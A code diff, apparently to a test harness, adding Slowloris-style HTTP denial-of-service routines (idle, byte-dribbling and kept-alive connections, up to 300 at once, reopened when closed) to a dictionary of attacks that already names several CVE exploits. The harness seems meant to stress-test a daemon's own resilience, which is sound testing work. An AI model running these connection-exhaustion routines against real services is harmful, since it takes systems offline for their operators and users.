@@ -211,11 +211,59 @@ def hellos(address):
     yield hit(address, recorded[: 64 + 2 + 200], after_handshake=False)
 
 
+HTTP_GUESTS = 300
+
+
+def is_kept(guest, drip):
+    """Whether a connection is still open, to which a byte more is sent."""
+    try:
+        guest.send(drip)
+        return guest.recv(4096) != b""
+    except BlockingIOError:
+        return True
+    except OSError:
+        return False
+
+
+def http_guests(address, head, drip):
+    """Connections of no use, opened again whenever the daemon closes them."""
+    guests = []
+    while True:
+        gone = [guest for guest in guests if not is_kept(guest, drip)]
+        for guest in gone:
+            guest.close()
+        guests = [guest for guest in guests if guest not in gone]
+        opened = 0
+        while len(guests) < HTTP_GUESTS:
+            try:
+                guest = dial(address)
+            except OSError:
+                break
+            say(guest, head)
+            guest.setblocking(False)
+            guests.append(guest)
+            opened += 1
+        time.sleep(0.05)
+        yield opened
+
+
+def http_idle(address):
+    yield from http_guests(address, b"", b"")
+
+
+def http_dribble(address):
+    yield from http_guests(address, b"GET /v1/members HTTP/1.1\r\nX: ", b"x")
+
+
+def http_kept_alive(address):
+    yield from http_guests(address, b"GET /health/live HTTP/1.1\r\nHost: a\r\n\r\n", b"")
+
+
 ATTACKS = {
     attack.__name__: attack
     for attack in (
         big_header, cve_2019_6250, cve_2019_13132, cve_2020_15166, every_command, after_ready, nesting, lying_lengths,
-        twins, replay, hellos,
+        twins, replay, hellos, http_idle, http_dribble, http_kept_alive,
     )
 }
 
